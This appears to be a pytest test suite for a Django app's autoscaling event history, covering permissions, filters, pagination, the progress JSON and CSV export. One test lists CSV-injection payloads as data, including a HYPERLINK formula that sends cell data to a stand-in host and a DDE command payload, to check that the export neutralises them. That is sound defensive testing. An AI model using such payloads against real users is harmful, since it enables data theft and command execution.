"""Event history, event page, live progress JSON and CSV export: permissions, filters, bounded SQL."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone

pytestmark = pytest.mark.django_db


def test_pages_require_login(client):
    for url in (reverse("events:list"), reverse("events:export"), reverse("events:detail", args=[1])):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith("/accounts/login/?next=")


def test_pages_require_view_permission(nobody_client):
    assert nobody_client.get(reverse("events:list")).status_code == 403
    assert nobody_client.get(reverse("events:export")).status_code == 403


def test_login_page_logs_in(client, operator):
    page = client.get("/accounts/login/")
    assert page.status_code == 200
    response = client.post("/accounts/login/", {"username": "operator", "password": "operator-pass-123",
                                                "next": reverse("events:list")})
    assert response.status_code == 302 and response["Location"] == reverse("events:list")
    bad = client.post("/accounts/login/", {"username": "operator", "password": "wrong"})
    assert bad.status_code == 200 and b'class="error"' in bad.content


def test_history_filters(operator_client, config, make_event):
    make_event(config, action="scale-out", decision="ALLOW", status="succeeded", minutes_ago=10)
    make_event(config, action="scale-in", decision="BLOCK_MIN", status="blocked", minutes_ago=5)
    make_event(None, service_name="other-svc", action="scale-out", decision="BLOCK_MAX", status="blocked")
    old = make_event(config, minutes_ago=60 * 24 * 3)

    def ids(**params):
        response = operator_client.get(reverse("events:list"), params)
        assert response.status_code == 200
        return [e.pk for e in response.context["page"].object_list]

    assert len(ids()) == 4
    assert len(ids(service=config.service_name)) == 3
    assert len(ids(action="scale-in")) == 1
    assert len(ids(decision="BLOCK_MAX")) == 1
    assert len(ids(status="blocked")) == 2
    today = timezone.localdate()
    assert old.pk not in ids(date_from=today.isoformat())
    assert ids(date_to=(today - dt.timedelta(days=2)).isoformat()) == [old.pk]
    # A bad filter is reported on the form, never a 500.
    response = operator_client.get(reverse("events:list"), {"date_from": today, "date_to": today - dt.timedelta(1)})
    assert response.status_code == 200
    assert "date_to" in response.context["form"].errors
    assert operator_client.get(reverse("events:list"), {"action": "explode"}).status_code == 200


def test_history_paginates_with_bounded_queries(operator_client, config, make_event, django_assert_max_num_queries):
    from events.models import ScaleEvent

    ScaleEvent.objects.bulk_create(
        [
            ScaleEvent(config=config, service_name=config.service_name, action="scale-out", decision="BLOCK_COOLDOWN",
                       status="blocked", reason=f"r{i}")
            for i in range(130)
        ]
    )
    with django_assert_max_num_queries(8):
        first = operator_client.get(reverse("events:list"))
    assert len(first.context["page"].object_list) == 50
    with django_assert_max_num_queries(8):
        last = operator_client.get(reverse("events:list"), {"page": 3, "service": config.service_name})
    assert len(last.context["page"].object_list) == 30
    assert b"Page 3 of 3" in last.content


def test_csv_export_follows_filters(operator_client, config, make_event):
    make_event(config, action="scale-out", vm_names=["a-20260101000000", "a-20260101000001"], reason="cpu, \"high\"")
    make_event(config, action="scale-in", decision="BLOCK_MIN", status="blocked")
    response = operator_client.get(reverse("events:export"), {"action": "scale-out"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(rows) == 1
    assert rows[0]["action"] == "scale-out"
    assert rows[0]["vm_names"] == "a-20260101000000 a-20260101000001"
    assert rows[0]["reason"] == 'cpu, "high"'
    assert rows[0]["trigger_detail"] == ""
    make_event(config, action="scale-out", trigger="policy", triggered_by="recommended policy",
               trigger_parts={"code": "policy_no_change_count", "params": {"count": 2}, "text": "No change: 2 VMs."})
    make_event(config, action="scale-out", trigger="policy", trigger_parts=["not", "a", "reason"])
    response = operator_client.get(reverse("events:export"), {"action": "scale-out"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert sorted(row["trigger_detail"] for row in rows) == ["", "", "No change: 2 VMs."]
    bad = operator_client.get(reverse("events:export"), {"date_from": "2026-02-02", "date_to": "2026-01-01"})
    assert bad.status_code == 400


def test_event_page_shows_timeline_and_trigger(operator_client, config, make_run):
    event = make_run(config, alert_name="AutoVmTestScaleOut", alert_fingerprint="abc123",
                     jenkins_build_url="http://127.0.0.1:8080/job/x/7/")
    response = operator_client.get(reverse("events:detail", args=[event.pk]))
    body = response.content.decode()
    assert response.status_code == 200
    assert "AutoVmTestScaleOut" in body and "abc123" in body
    assert 'href="http://127.0.0.1:8080/job/x/7/"' in body
    assert body.index('data-stage="allocate_ip"') < body.index('data-stage="complete"')
    assert "leased 127.0.48.221" in body
    assert operator_client.get(reverse("events:detail", args=[999999])).status_code == 404


def test_progress_json(operator_client, config, make_run, django_assert_max_num_queries):
    event = make_run(config)
    with django_assert_max_num_queries(6):
        data = operator_client.get(reverse("events:progress", args=[event.pk])).json()
    assert data["active"] is True
    assert [s["name"] for s in data["event"]["stages"]][:2] == ["allocate_ip", "clone"]
    assert data["event"]["stages"][0]["status"] == "running"
    assert data["event"]["stages"][0]["label"] == "Allocate IP addresses"


# --- one vocabulary -----------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.invalid/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1", "\uff1d1+1"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_export_neutralises_formulas(operator_client, config, make_event, formula):
    """OWASP CSV injection: a stored reason, alert name, error or trigger text that starts like a formula is written
    with a leading apostrophe (a spreadsheet shows it as text); the page and the API keep the stored text as is."""
    make_event(config, reason=formula, alert_name=formula, error=formula, triggered_by=formula,
               vm_names=[formula], trigger_parts={"code": "x", "text": formula})
    response = operator_client.get(reverse("events:export"))
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    assert len(rows) == 1
    for column in ("reason", "alert_name", "error", "triggered_by", "vm_names", "trigger_detail"):
        assert rows[0][column] == "'" + formula, (column, rows[0][column])
    assert rows[0]["service_name"] == config.service_name and rows[0]["before_count"] == "2"


def test_decisions_read_as_labels_with_the_code_in_a_tooltip_and_in_the_csv(operator_client, config, make_event):
    make_event(config, decision="BLOCK_UNKNOWN_COUNT", status="blocked", after_count=None)
    for url in (reverse("events:list"), reverse("autoscaling:service", args=[config.service_name])):
        body = operator_client.get(url).content.decode()
        assert 'title="BLOCK_UNKNOWN_COUNT">Blocked: current VM count unknown</span>' in body, url
        assert ">BLOCK_UNKNOWN_COUNT<" not in body, url
    overview = operator_client.get(reverse("autoscaling:overview")).content.decode()
    assert "Blocked: current VM count unknown" in overview and ">BLOCK_UNKNOWN_COUNT<" not in overview
    korean = operator_client.get(reverse("events:list"), HTTP_ACCEPT_LANGUAGE="ko").content.decode()
    assert "차단: 현재 VM 개수를 알 수 없음" in korean
    csv_text = b"".join(operator_client.get(reverse("events:export")).streaming_content).decode()
    assert ",BLOCK_UNKNOWN_COUNT," in csv_text  # codes stay in the export


def test_empty_states_say_whether_filters_are_set(operator_client, config):
    empty = operator_client.get(reverse("events:list")).content.decode()
    assert "No scale events recorded yet" in empty and "No events match these filters" not in empty
    filtered = operator_client.get(reverse("events:list"), {"service": "nothing-here"}).content.decode()
    assert "No events match these filters" in filtered and "Show all events" in filtered
    assert "No scale events recorded yet" not in filtered


def test_a_run_in_flight_names_its_stage_by_title(operator_client, config, make_run):
    from events.views.selectors import stage_label

    make_run(config)
    body = operator_client.get(reverse("events:list")).content.decode()
    title = stage_label("allocate_ip")
    assert title != "allocate_ip" and f'<span class="muted small">{title}</span>' in body
